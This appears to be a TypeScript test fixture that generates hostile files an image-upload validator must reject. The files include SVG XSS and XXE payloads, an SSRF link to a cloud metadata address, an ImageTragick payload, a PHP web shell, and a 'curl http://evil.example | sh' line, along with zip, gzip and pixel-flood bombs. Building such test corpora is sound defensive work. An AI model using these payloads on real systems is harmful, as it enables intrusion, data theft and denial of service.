// Files that are no picture to be shown: each must be refused.
import { deflateRawSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { resized, withPasses } from './jpeg.ts';
import { black, chunk, header, headerOnly, magic, png, uint32, withChunks } from './png.ts';
import { noise, plain, type Plain } from './plain.ts';

type Files = Record<string, Buffer | string>;

const script = '<script>alert(document.domain)</script>';
const svg = (body: string, attributes = '') =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${body}</svg>`;
const entities = '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');

const drawings: Files = {
    'svg script': svg(script),
    'svg onload': svg('', 'onload="alert(1)"'),
    'svg foreign object': svg(
        `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${script}</body></foreignObject>`
    ),
    'svg link': svg('<a xlink:href="javascript:alert(1)"><text>x</text></a>'),
    'svg file': svg('<image xlink:href="file:///etc/passwd" width="9" height="9"/>'),
    'svg address': svg('<image xlink:href="http://169.254.169.254/latest" width="9" height="9"/>'),
    'svg xxe': entities + svg('<text>&xxe;</text>'),
    'svg billion laughs': `<!DOCTYPE svg [<!ENTITY l0 "ha">${laughs}]>${svg('<text>&l9;</text>')}`,
    'svg with a mark': `\ufeff<?xml version="1.0"?>${svg(script)}`,
    'svg after spaces': `${' \n'.repeat(400)}${svg(script)}`,
    'svg after a comment': `<!-- ${'x'.repeat(5000)} -->${svg(script)}`,
    'svg in 16 bits': Buffer.from(`\ufeff${svg(script)}`, 'utf16le'),
    'svg packed': gzipSync(svg(script)),
    'svg enormous': svg('', 'width="100000" height="100000"')
};

const documents: Files = {
    html: `<!doctype html><html><body>${script}</body></html>`,
    'html fragment': script,
    'html after a magic word': `PNG\n${script}`,
    xhtml: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`,
    mhtml: `MIME-Version: 1.0\nContent-Type: multipart/related\n\n${script}`,
    pdf: '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF',
    'pdf later': `${' '.repeat(500)}%PDF-1.4\n%%EOF`,
    postscript: '%!PS-Adobe-3.0 EPSF-3.0\n(x) show',
    'image magick script':
        'push graphic-context\nviewbox 0 0 9 9\nfill \'url(https://evil.example/"|id")\'\npop graphic-context',
    'image magick text': '<?xml version="1.0"?><image><read filename="caption:@/etc/passwd"/></image>',
    'xpm picture': '/* XPM */ static char *x[]={"1 1 1 1","a c red","a"};',
    php: '<?php system($_GET["c"]); ?>',
    shell: '#!/bin/sh\ncurl http://evil.example | sh',
    javascript: 'alert(1)//',
    json: '{"path":"/etc/passwd"}',
    rtf: '{\\rtf1 x}',
    text: 'This is no picture.',
    'a name': '/etc/passwd',
    empty: '',
    'one byte': '\x89',
    zeros: Buffer.alloc(100_000),
    ones: Buffer.alloc(100_000, 0xff)
};

const brands = [
    'heic',
    'heix',
    'hevc',
    'mif1',
    'msf1',
    'avif',
    'avis',
    'mp42',
    'isom',
    'qt  ',
    'crx ',
    'jxl '
];
const heif = (brand: string) =>
    Buffer.concat([uint32(24), Buffer.from(`ftyp${brand}\0\0\0\0mif1${brand}`), Buffer.alloc(500)]);

const zipBomb = (name: string) => {
    const packed = deflateRawSync(Buffer.alloc(64 * 1024 * 1024));
    const head = Buffer.alloc(30);
    head.write('PK\u0003\u0004', 'latin1');
    head.writeUInt16LE(8, 8);
    head.writeUInt32LE(packed.length, 18);
    head.writeUInt32LE(64 * 1024 * 1024, 22);
    head.writeUInt16LE(name.length, 26);
    return Buffer.concat([head, Buffer.from(name), packed]);
};

/** Beginnings of other kinds of file, with nothing of use behind them. */
const beginnings: Record<string, string> = {
    gif87: 'GIF87a\u0001\0\u0001\0',
    'gif89 with a script': `GIF89a/*${script}*/=1;`,
    bmp: 'BM\u009a\0\0\0\0\0\0\0',
    ico: '\0\0\u0001\0\u0001\0',
    'tiff little': 'II*\0\b\0\0\0',
    'tiff big': 'MM\0*\0\0\0\b',
    bigtiff: 'II+\0\b\0\0\0',
    'raw of a camera': 'II*\0\u0010\0\0\0CR\u0002\0',
    photoshop: '8BPS\0\u0001\0\0',
    jpeg2000: '\0\0\0\fjP  \r\n\u0087\n',
    'jpeg xl': '\u00ff\n\u00fa',
    'jpeg xr': 'II\u00bc\u0001',
    pnm: 'P6\n60000 60000\n255\n',
    qoi: 'qoif\0\0\u0001\0\0\0\u0001\0',
    openexr: 'v/1\u0001\u0002\0\0\0',
    fits: 'SIMPLE  =                    T',
    dicom: `${'\0'.repeat(128)}DICM`,
    elf: '\u007fELF\u0002\u0001\u0001',
    windows: 'MZ\u0090\0\u0003',
    wasm: '\0asm\u0001\0\0\0',
    java: '\u00ca\u00fe\u00ba\u00be\0\0\0\u0034',
    gzip: '\u001f\u008b\b\0',
    bzip2: 'BZh91AY&SY',
    '7z': '7z\u00bc\u00af\u0027\u001c',
    rar: 'Rar!\u001a\u0007\u0001\0',
    sqlite: 'SQLite format 3\0',
    wav: 'RIFF\u0024\0\0\0WAVEfmt ',
    avi: 'RIFF\u0024\0\0\0AVI LIST',
    mp3: 'ID3\u0003\0\0\0\0\0\n',
    ogg: 'OggS\0\u0002',
    matroska: '\u001aE\u00df\u00a3',
    flac: 'fLaC\0\0\0\u0022',
    font: '\0\u0001\0\0\0\u000f',
    woff2: 'wOF2\0\u0001\0\0'
};

/** Pictures that are well made, of kinds that are not taken. */
async function otherKinds(): Promise<Files> {
    const red = sharp({ create: { width: 9, height: 9, channels: 3, background: 'red' } });
    const [gif, tiff, avif] = await Promise.all([
        red.clone().gif().toBuffer(),
        red.clone().tiff().toBuffer(),
        red.clone().avif({ effort: 0 }).toBuffer()
    ]);
    return { gif, 'gif with a script': Buffer.concat([gif, Buffer.from(script)]), tiff, avif };
}

/** What begins as one kind and goes on as another. */
function mixtures({ png, jpeg, webp }: Plain): Files {
    const bodies = {
        png,
        jpeg,
        webp,
        html: Buffer.from(documents['html'] as string),
        svg: Buffer.from(svg(script)),
        nothing: Buffer.alloc(0),
        noise: Buffer.alloc(999, 0x5a)
    };
    const magics = {
        png: magic,
        jpeg: Buffer.from('ffd8ffe0', 'hex'),
        webp: Buffer.from('RIFF\xff\0\0\0WEBPVP8 ', 'latin1'),
        gif: Buffer.from('GIF89a')
    };
    return Object.fromEntries(
        Object.entries(magics).flatMap(([head, bytes]) =>
            Object.entries(bodies).map(([body, rest]) => [
                `${head} with the body of ${body}`,
                Buffer.concat([bytes, rest])
            ])
        )
    );
}

const shares = [0.02, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9];

function truncated(pictures: Plain): Files {
    return Object.fromEntries(
        Object.entries(pictures).flatMap(([kind, bytes]) =>
            shares.map((share) => [
                `${kind} cut at ${share * 100}%`,
                bytes.subarray(0, Math.floor(bytes.length * share))
            ])
        )
    );
}

function broken({ png: picture, webp }: Plain): Files {
    const flipped = Buffer.from(picture);
    flipped[20] = (flipped[20] ?? 0) ^ 0xff;
    const data = chunk('IDAT', 'no pixels at all');
    const moving = withChunks(picture, chunk('acTL', Buffer.concat([uint32(1000), uint32(0)])));
    return {
        'png with a wrong sum': flipped,
        'png without a header': png(data),
        'png without data': png(header({ width: 9, height: 9 })),
        'png of nonsense': png(header({ width: 9, height: 9 }), data),
        'png 0 wide': headerOnly({ width: 0, height: 9 }),
        'png 0 high': headerOnly({ width: 9, height: 0 }),
        'png of 3 bits': headerOnly({ width: 9, height: 9, depth: 3 }),
        'png of colour 5': headerOnly({ width: 9, height: 9, colour: 5 }),
        'png without its palette': png(header({ width: 9, height: 9, colour: 3 }), data),
        'png with an endless chunk': Buffer.concat([
            picture.subarray(0, 33),
            uint32(0x7fffffff),
            Buffer.from('tEXt')
        ]),
        'png that moves': moving,
        'webp of no length': Buffer.concat([Buffer.from('RIFF\0\0\0\0WEBP'), webp.subarray(12)]),
        'webp of nonsense': Buffer.concat([webp.subarray(0, 30), Buffer.alloc(webp.length, 0x11)])
    };
}

/** A canvas of WebP: 14 bits a side in the simple form, 24 in the extended one. */
const webpCanvas = (side: number) => {
    const size = Buffer.alloc(4);
    size.writeUInt32LE(side - 1);
    const body = Buffer.concat([
        Buffer.from('WEBPVP8X'),
        Buffer.of(10, 0, 0, 0, 2, 0, 0, 0),
        size.subarray(0, 3),
        size.subarray(0, 3)
    ]);
    const length = Buffer.alloc(4);
    length.writeUInt32LE(body.length);
    return Buffer.concat([Buffer.from('RIFF'), length, body]);
};

async function enormous({ jpeg }: Plain): Promise<Files> {
    const even = sharp({ create: { width: 2000, height: 2000, channels: 3, background: '#123456' } });
    const passing = await even.jpeg({ progressive: true }).toBuffer();
    return {
        '60,000 x 60,000 in 65 bytes': headerOnly({ width: 60_000, height: 60_000 }),
        '30,000 x 30,000 in 109 KB': black({ width: 30_000, height: 30_000, depth: 1, colour: 0 }),
        'the largest png': headerOnly({ width: 0x7fffffff, height: 0x7fffffff }),
        '8,001 wide': black({ width: 8001, height: 1 }),
        '8,001 high': black({ width: 1, height: 8001 }),
        '8,000 x 8,000': black({ width: 8000, height: 8000, depth: 1, colour: 0 }),
        'jpeg 65,500 x 65,500': resized(jpeg, 65_500, 65_500),
        'jpeg 65,500 x 1': resized(jpeg, 65_500, 1),
        'webp 16,384 x 16,384': webpCanvas(16_384),
        'webp 1,000,000 x 1,000,000': webpCanvas(1_000_000),
        'jpeg of 2,000 passes': withPasses(passing, 2000)
    };
}

/** Small files that would take hundreds of megabytes if they were unpacked. */
async function greedy(): Promise<Files> {
    const size = { width: 8000, height: 5000 };
    const even = () => sharp({ create: { ...size, channels: 3, background: '#123456' } });
    const input = await sharp({ create: { width: 64, height: 64, channels: 3, background: 'red', noise } })
        .png()
        .toBuffer();
    const passing = { quality: 50, progressive: true, chromaSubsampling: '4:4:4' };
    return {
        '40 megapixels of 16 bits in passes': black({ ...size, depth: 16, colour: 6, passes: true }),
        '40 megapixels of a jpeg in passes': await even().jpeg(passing).toBuffer(),
        '40 megapixels without loss': await even()
            .composite([{ input, tile: true }])
            .webp({ lossless: true, effort: 0 })
            .toBuffer()
    };
}

/** By name, all files that must be refused. */
export async function hostileFiles() {
    const pictures = await plain();
    const started = Object.entries(beginnings).map(([name, text]) => [
        name,
        Buffer.concat([Buffer.from(text, 'latin1'), Buffer.alloc(600)])
    ]);
    const all: Files = {
        ...drawings,
        ...documents,
        ...Object.fromEntries(brands.map((brand) => [`ftyp ${brand}`, heif(brand)])),
        ...(Object.fromEntries(started) as Files),
        'zip bomb': zipBomb('[Content_Types].xml'),
        'zip bomb of an app': zipBomb('AndroidManifest.xml'),
        'gzip bomb': gzipSync(Buffer.alloc(64 * 1024 * 1024)),
        ...(await otherKinds()),
        ...mixtures(pictures),
        ...truncated(pictures),
        ...broken(pictures),
        ...(await enormous(pictures)),
        ...(await greedy())
    };
    return Object.entries(all).map(([name, bytes]) => ({ name, bytes: Buffer.from(bytes as string) }));
}
